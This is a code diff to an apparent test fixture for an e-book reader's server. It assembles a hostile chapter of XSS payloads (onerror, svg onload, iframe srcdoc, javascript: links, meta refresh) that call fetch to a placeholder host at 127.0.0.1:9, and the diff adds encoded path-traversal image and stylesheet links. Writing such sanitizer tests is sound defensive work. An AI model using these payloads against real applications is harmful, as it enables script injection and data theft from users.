@@ -5,6 +5,9 @@ import { writeZip } from '@longbox/server/media/zip/write-zip';
 /** Where a hostile book would send what it learns; nothing is there. */
 export const elsewhere = 'http://127.0.0.1:9';
 
+/** A call of our own server that a picture or a style sheet must not make. */
+export const stolen = 'v1/stolen';
+
 /** What each attack does when it runs: it marks the client's page, and calls its server. */
 const attack = `parent.document.documentElement.dataset.hacked='yes';fetch('${elsewhere}/stolen')`;
 const plain = attack.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
@@ -18,11 +21,11 @@ const first = chapter(
 <img src="none.png" onerror="${plain}" alt=""/><details open="open" ontoggle="${plain}"><p>x</p></details>
 <svg xmlns="http://www.w3.org/2000/svg" onload="${plain}"><script>${plain}</script><animate attributeName="href" onbegin="${plain}" dur="1s"/></svg>
 <iframe srcdoc="&lt;script&gt;parent.${plain}&lt;/script&gt;"></iframe><object data="run.html"></object>
-<img src="${elsewhere}/pixel.gif" alt=""/><p style="background:url(${elsewhere}/style.png)">far</p>
+<img src="${elsewhere}/pixel.gif" alt=""/><img src="y%2f..%2f..%2f..%2f..%2f..%2f${stolen}" alt=""/><p style="background:url(${elsewhere}/style.png)">far</p>
 <a href="javascript:${plain}">Press me</a>
 <form action="${elsewhere}/form"><button>Send</button></form>`,
   `<meta http-equiv="refresh" content="0;url=${elsewhere}/away"/><base href="${elsewhere}/"/>
-<link rel="stylesheet" href="${elsewhere}/sheet.css"/><style>@import "${elsewhere}/import.css"; body{background:url(${elsewhere}/body.png)}</style>`,
+<link rel="stylesheet" href="${elsewhere}/sheet.css"/><link rel="stylesheet" href="x%2f..%2f..%2f..%2f..%2f..%2f${stolen}"/><style>@import "${elsewhere}/import.css"; body{background:url(${elsewhere}/body.png)}</style>`,
 );
 
 /** Not well-formed, with attacks that only a reader of HTML sees. */
